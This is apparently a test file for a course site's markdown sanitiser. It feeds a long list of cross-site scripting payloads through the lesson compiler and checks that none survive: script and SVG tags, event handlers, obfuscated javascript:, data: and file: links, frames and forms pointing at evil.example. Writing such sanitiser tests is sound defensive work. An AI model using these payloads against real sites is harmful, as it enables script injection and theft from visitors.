import { describe, it } from "@std/testing/bdd";
import { expect } from "@std/expect";
import fc from "fast-check";
import { render } from "preact-render-to-string";
import { h } from "preact";
import { RichText } from "@/components/rich_text.tsx";
import { safeAddress } from "@/lib/course/markdown/allow_list.ts";
import { courseElement } from "@/lib/course/markdown/nodes.ts";
import { toRich } from "@/lib/course/markdown/to_rich.ts";
import { Highlighter } from "@/lib/course/markdown/highlight.ts";
import { checksOf } from "@/lib/course/exercise/kinds/mod.ts";
import type { Lesson, RichNode } from "@/lib/course/types.ts";
import { cleanUp, compileLesson, elements, text } from "./support.ts";

// Written out here on purpose: the list that is tested must not be its own judge.
const TAGS = new Set(
  ("p h2 h3 h4 h5 h6 ul ol li blockquote pre em strong del code br hr a abbr img sub sup kbd table " +
    "thead tbody tr th td span math mrow mi mn mo mtext mspace mfrac msqrt mroot mstyle merror " +
    "mpadded mphantom menclose msub msup msubsup munder mover munderover mmultiscripts mtable mtr " +
    "mtd ms x-term x-cite x-calc x-value x-figure x-exercise x-predict x-aside x-deepdive x-recap " +
    "x-instructor x-note-ref x-table").split(" "),
);

/** Every tree that a lesson's page shows. */
function trees({ body, notes, figures, exercises }: Lesson): RichNode[] {
  return [
    ...body,
    ...notes.flatMap(({ content }) => content),
    ...figures.flatMap(({ caption }) => caption),
    ...exercises.flatMap((exercise) => [
      ...exercise.prompt,
      ...exercise.hints.flat(),
      ...exercise.solution,
      ...checksOf(exercise).texts(exercise).flatMap(({ nodes }) => nodes),
    ]),
  ];
}

function expectHarmless(nodes: readonly RichNode[]): void {
  for (const { tag, props = {} } of elements(nodes)) {
    expect(TAGS.has(tag)).toBe(true);
    for (const [name, value] of Object.entries(props)) {
      expect(name).toMatch(/^[a-z]+$/);
      expect(name).not.toMatch(/^(on.*|style|srcdoc|srcset|formaction|action|background|ping)$/);
      if (name === "href" || name === "src") expectHarmlessAddress(String(value));
      if (name === "class") expect(value).toMatch(/^(tok-[a-z-]+|letter|unbroken)$/);
    }
  }
}

function expectHarmlessAddress(address: string): void {
  const url = new URL(address, "https://course.example/lessons/x");
  expect(["https:", "http:", "mailto:"]).toContain(url.protocol);
  // A path must not turn into another host
  if (!/^(https?|mailto):/i.test(address)) expect(url.host).toBe("course.example");
}

const HOSTILE: Readonly<Record<string, string>> = {
  "a script": "<script>alert(1)</script>",
  "a script in a paragraph": "Some <script>alert(1)</script> text",
  "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "an event handler": '<img src=x onerror="alert(1)">',
  "a handler on an allowed tag": '<kbd onclick="alert(1)">x</kbd>',
  "a handler behind a title": '<abbr title="x" onmouseover="alert(1)">x</abbr>',
  "a title that breaks out": '<abbr title="x" style="y">x</abbr>',
  "SVG": "<svg><script>alert(1)</script></svg>",
  "SVG with a handler": '<svg onload="alert(1)">',
  "a style": "<style>body{display:none}</style>",
  "a frame": '<iframe src="https://evil.example"></iframe>',
  "an object": '<object data="x"></object><embed src="x">',
  "a form": '<form action="https://evil.example"><input name="a"></form>',
  "a base": '<base href="https://evil.example/">',
  "a meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "a comment that is not closed": "<!-- x --><script>alert(1)</script><!-- y -->",
  "a comment with HTML behind it": "<!-- a --> <b onclick=x>b</b>",
  "CDATA and processing instructions": "<![CDATA[<b>]]> <?php x ?> <!DOCTYPE html>",
  "a javascript: link": "[x](javascript:alert(1))",
  "a link in capitals": "[x](JaVaScRiPt:alert(1))",
  "a link with a tab": "[x](java&Tab;script:alert(1))",
  "a link with a new line": "[x](java&#10;script:alert(1))",
  "a link with a leading control character": "[x](&#1;javascript:alert(1))",
  "a link with an escaped colon": "[x](javascript&colon;alert(1))",
  "a data: link": "[x](data:text/html,<script>alert(1)</script>)",
  "a vbscript: link": "[x](vbscript:msgbox(1))",
  "a file: link": "[x](file:///etc/passwd)",
  "a blob: link": "[x](blob:https://a/b)",
  "a link to another host without a scheme": "[x](//evil.example/)",
  "a link with backslashes":
    "[x](/\\\\evil.example/) [y](\\\\\\\\evil.example) [z](/\\evil.example)",
  "a link definition": "[x]\n\n[x]: javascript:alert(1)",
  "an image definition": "![x]\n\n[x]: javascript:alert(1)",
  "an autolink": "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
  "an image from a data: address": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "an image from elsewhere": "![x](https://evil.example/pixel.png)",
  "a link in a heading": "## [x](javascript:alert(1))",
  "a footnote": "x[^1]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>",
  "a footnote's name": 'x[^"><script>]\n\n[^"><script>]: y',
  "maths with a link": "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
  "maths with HTML":
    "$\\htmlClass{a}{b} \\htmlId{a}{b} \\htmlStyle{color:red}{b} \\htmlData{a=b}{c}$",
  "maths with an image": "$\\includegraphics{https://evil.example/x.png}$",
  "maths with a colour": "$\\color{red}{x}$ $$\n\\colorbox{red}{x}\n$$",
  "maths that unfolds": "$\\def\\a{\\a\\a}\\a$",
  "a directive with a handler": ':term[FLOP]{onclick="alert(1)" style="x"}',
  "a container with a handler": ':::aside[x]{onclick="alert(1)" class="y"}\nz\n:::',
  "a directive that is a tag": ":script[alert(1)] ::iframe{src=x} :a[x]{href=javascript:alert(1)}",
  "a container that is a tag": ':::script{src="//evil.example"}\nalert(1)\n:::',
  "a directive with prototype keys": ':calc[1]{__proto__="x" constructor="y"}',
  "an expression with HTML": ':calc["<script>alert(1)</script>"]',
  "a citation with HTML": ":cite[<script>]{onclick=x}",
  "a figure with a handler":
    '::figure{name="roofline" id="x" caption="<b onclick=x>y</b>" onclick="z"}',
  "a figure id that breaks out": '::figure{name="roofline" id=\'x" onload="alert(1)\' caption="y"}',
  "a table": "| <script> | [x](javascript:alert(1)) |\n|---|---|\n| <b> | y |",
  "code": "```html\n<script>alert(1)</script>\n```\n\n`<script>`",
  "a language with a tag": "```<script>\nx\n```",
  "front matter again": "---\na: b\n---",
  "an exercise": "```exercise\nid: second/x\nkind: single\nprompt: <script>alert(1)</script>\n" +
    'choices:\n  - { text: "[x](javascript:alert(1))", correct: true, why: "<img src=x onerror=y>" }\n' +
    '  - { text: "b", why: "c" }\nhints: ["<svg onload=x>"]\nsolution: "{1}"\n```',
  "a prediction": ':::predict{id="p" onclick="x"}\n<iframe>\n\n' +
    "- [x] [a](javascript:alert(1)) :why[<b>c</b>]\n- [ ] b :why[d]\n:::",
};

describe("Sanitising", () => {
  cleanUp();
  for (const [name, source] of Object.entries(HOSTILE)) {
    it(`lets nothing through of ${name}`, async () => {
      const { lesson } = await compileLesson(source);
      const nodes = trees(lesson);
      expectHarmless(nodes);
      const html = render(h(RichText, { nodes }));
      expect(html).not.toMatch(
        /<(script|iframe|svg|style|object|embed|form|input|base|meta|link)\b/i,
      );
      expect(html).not.toMatch(/<[^>]*\s(on\w+|style)\s*=/i);
    });
  }

  it("reports what it removes", async () => {
    for (
      const name of [
        "a script",
        "a javascript: link",
        "maths with a link",
        "a directive that is a tag",
      ]
    ) {
      const { errors } = await compileLesson(HOSTILE[name] ?? "");
      expect(errors.filter(({ severity }) => severity === "error").length).toBeGreaterThan(0);
    }
  });

  it("keeps the words of a link it removes", async () => {
    const { lesson } = await compileLesson("A [word](javascript:alert(1)) stays.");
    expect(text(lesson.body)).toBe("A word stays.");
    expect(elements(lesson.body, "a")).toEqual([]);
  });

  it("keeps HTML in code as text", async () => {
    const { lesson, errors } = await compileLesson("`<script>alert(1)</script>`");
    expect(errors).toEqual([]);
    expect(text(lesson.body)).toBe("<script>alert(1)</script>");
  });

  it("drops what is not allowed even if the steps before it let it through", async () => {
    const highlighter = await Highlighter.forTexts([]);
    const problems: string[] = [];
    const rich = toRich([
      courseElement("script", { src: "//evil.example" }, [{ type: "text", value: "alert(1)" }]),
      courseElement("a", { href: "javascript:alert(1)", onclick: "x", title: "fine" }, []),
      courseElement("p", { style: "color:red", class: "x" }, [{ type: "text", value: "words" }]),
      courseElement("img", { src: "https://evil.example/x.png", alt: "x" }),
      { type: "html", value: "<script>alert(1)</script>" },
    ], { highlighter, problem: (_, __, ___, message) => problems.push(message) });
    expect(rich).toEqual([
      "alert(1)",
      { tag: "a", props: { title: "fine" } },
      { tag: "p", children: ["words"] },
      { tag: "img", props: { alt: "x" } },
    ]);
    expect(problems).toHaveLength(6);
  });

  it("judges addresses as browsers read them", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.webUrl(),
          fc.string({ unit: "binary" }),
          fc.array(
            fc.constantFrom(
              "java",
              "script",
              ":",
              "/",
              "\\",
              "\t",
              "\n",
              "#",
              "//",
              "https:",
              "data:",
              "evil.example",
              "&",
              "\u0000",
              " ",
            ),
            { maxLength: 8 },
          ).map((parts) => parts.join("")),
        ),
        (address) => {
          if (safeAddress(address) && URL.canParse(address, "https://course.example/lessons/x")) {
            expectHarmlessAddress(address);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });
});
